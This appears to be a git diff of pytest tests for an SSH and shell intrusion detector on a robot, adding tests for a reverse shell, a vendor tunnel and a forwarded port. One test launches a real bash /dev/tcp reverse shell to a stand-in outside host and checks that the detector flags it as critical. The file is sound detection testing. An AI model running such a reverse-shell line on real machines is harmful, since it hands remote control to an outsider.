@@ -22,9 +22,6 @@ HERE = Path(__file__).parent
 @pytest.fixture
 def stage(tmp_path: Path) -> Iterator[SshStage]:
     """A robot with sshd, and an outside."""
-    # pytest's folders are root's alone; pi must reach his home and sshd's child the keys.
-    for folder in (tmp_path, *tmp_path.parents[:2]):
-        folder.chmod(0o755)
     with SshStage(tmp_path) as stage:
         stage.sshd(stage.on_robot, "0.0.0.0")
         yield stage
@@ -104,3 +101,42 @@ def test_the_same_login_straight_from_the_local_network_is_no_incident(stage: Ss
     type_until(shell, lambda: False, 5.0)
     assert about(watch.end()) == []
     assert watch.saw('"user":"pi"'), "the login itself was seen"
+
+
+def test_a_real_reverse_shell_is_one_incident_with_its_far_end(stage: SshStage) -> None:
+    """No login, no ssh: bash itself dials out, and somebody types there."""
+    far_end = stage.outside("socat", "TCP-LISTEN:4444,reuseaddr", "STDIO", stdin=subprocess.PIPE)
+    stage.wait_outside(4444)
+    watch = stage.watch()
+    shell = stage.on_robot("bash", "-c", f"bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1")
+    stage.until(lambda: watch.saw(f'"remote":["{OUTSIDE}",4444]'), "the connection is seen")
+    assert far_end.stdin is not None
+    far_end.stdin.write(b"id\nexit\nexit\n")
+    far_end.stdin.close()
+    shell.wait(20)
+    (incident,) = [one for one in watch.end() if one["surface"] == "shell"]
+    assert (incident["kind"], incident["level"]) == ("remote-control", "critical")
+    assert incident["origin"][0] == {"hop": "address", "address": OUTSIDE, "port": 4444}
+    assert {"T1059.004"} <= set(incident["attack"])
+
+
+def test_the_vendors_tunnel_is_named_when_its_program_starts(stage: SshStage, tmp_path: Path) -> None:
+    """A program of that name and nothing else of it: the rule reads what the kernel told of a real start."""
+    program = shutil.copy("/bin/sleep", tmp_path / "csclient")
+    watch = stage.watch()
+    stage.on_robot(str(program), "20")
+    stage.until(lambda: watch.saw("/csclient"), "the start is seen")
+    (incident,) = [one for one in watch.end() if one["kind"] == "tunnel"]
+    assert "CloudSail" in incident["title"]
+    assert incident["level"] == "high"
+
+
+def test_a_port_that_a_visitor_forwards_is_noted(stage: SshStage) -> None:
+    """`ssh -R` towards the robot: sshd opens a listener for a colleague at the bench."""
+    watch = stage.watch()
+    stage.outside(*stage.ssh("-N", "-b", DESK, "-R", "9009:127.0.0.1:1", f"pi@{ROBOT_LAN}"))
+    stage.until(lambda: watch.saw('["127.0.0.1",9009]'), "the listener is seen")
+    (incident,) = about(watch.end())
+    assert (incident["kind"], incident["level"]) == ("tunnel", "low")
+    assert "9009" in incident["title"]
+    assert incident["sessions"][0]["origin"][0]["address"] == DESK
